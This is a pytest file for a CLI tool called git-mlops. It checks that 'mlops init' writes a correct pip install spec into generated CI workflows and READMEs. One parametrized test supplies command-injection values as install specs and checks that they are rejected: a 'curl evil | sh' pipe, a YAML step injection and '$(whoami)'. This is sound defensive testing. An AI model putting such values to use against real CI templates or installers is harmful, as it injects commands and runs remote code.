"""The distribution is `git-mlops` (`mlops` on the package index is an unrelated project); the command and the
import stay `mlops`. `mlops init` writes into the CI workflows and README the pip requirement that installs
this project at the version that generated them, or the one given with --install-spec / MLOPS_INSTALL_SPEC."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from mlops import __version__
from mlops.cli import cli
from mlops.pipeline.install_spec import DISTRIBUTION
from tests.conftest import REPO_ROOT

TEMPLATES = REPO_ROOT / "mlops" / "templates"
PIP_LINE = re.compile(r"""pip install\s+(?P<spec>"[^"\n]*"|'[^'\n]*'|[^\s`]+)""")


def test_distribution_name_is_this_projects_and_the_command_stays_mlops() -> None:
    text = (REPO_ROOT / "pyproject.toml").read_text()  # tomllib is Python 3.11+
    assert re.search(r'^name = "(.*)"$', text, re.M)[1] == DISTRIBUTION == "git-mlops"  # type: ignore[index]
    assert re.search(r"^\[project.scripts\]\nmlops = \"mlops.cli:main\"$", text, re.M)


def test_every_template_install_line_names_this_project() -> None:
    found = 0
    for path in TEMPLATES.rglob("*"):
        if not path.is_file() or path.suffix not in (".yml", ".yaml", ".md"):
            continue
        for m in PIP_LINE.finditer(path.read_text()):
            spec = m["spec"].strip("\"'")
            if spec.startswith("pre-commit"):
                continue
            assert spec == "{{install}}", f"{path.relative_to(REPO_ROOT)} installs `{spec}`, not this project"
            found += 1
    assert found >= 4  # two workflows, two READMEs


def _pip_lines(root: Path) -> list[str]:
    lines = []
    for rel in (".github/workflows/pr-gate.yml", ".github/workflows/sync.yml", "README.md"):
        lines += [m["spec"].strip("\"'") for m in PIP_LINE.finditer((root / rel).read_text())]
    return lines


@pytest.mark.slow
def test_init_writes_the_install_spec_everywhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("MLOPS_INSTALL_SPEC", raising=False)
    result = CliRunner().invoke(cli, ["init", "demo"])
    assert result.exit_code == 0, result.output
    specs = _pip_lines(tmp_path / "demo")
    assert specs and set(specs) == {f"git-mlops=={__version__}"}  # installed from a folder: the version
    assert f'CI installs mlops with: pip install "git-mlops=={__version__}"' in result.stdout
    assert "--install-spec" in result.stdout  # says how to change it when the index lacks that version
    spec = f"git-mlops @ git+https://example.com/org/mlops@v{__version__}"
    monkeypatch.setenv("MLOPS_INSTALL_SPEC", spec)
    result = CliRunner().invoke(cli, ["init", "env", "--template", "minimal"])
    assert result.exit_code == 0, result.output
    assert f'pip install "{spec}"' in (tmp_path / "env" / "README.md").read_text()
    result = CliRunner().invoke(cli, ["init", "opt", "--install-spec", "git-mlops==0.1.0"])
    assert result.exit_code == 0, result.output
    assert set(_pip_lines(tmp_path / "opt")) == {"git-mlops==0.1.0"}


@pytest.mark.parametrize("bad", ['git-mlops"; curl evil | sh; "', "git-mlops\n- run: echo", "$(whoami)"])
def test_init_refuses_an_install_spec_that_is_not_a_requirement(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, bad: str
) -> None:
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(cli, ["init", "demo", "--install-spec", bad])
    assert result.exit_code == 2
    assert "is not a pip requirement" in result.stderr
    assert not (tmp_path / "demo").exists()  # refused before anything was created
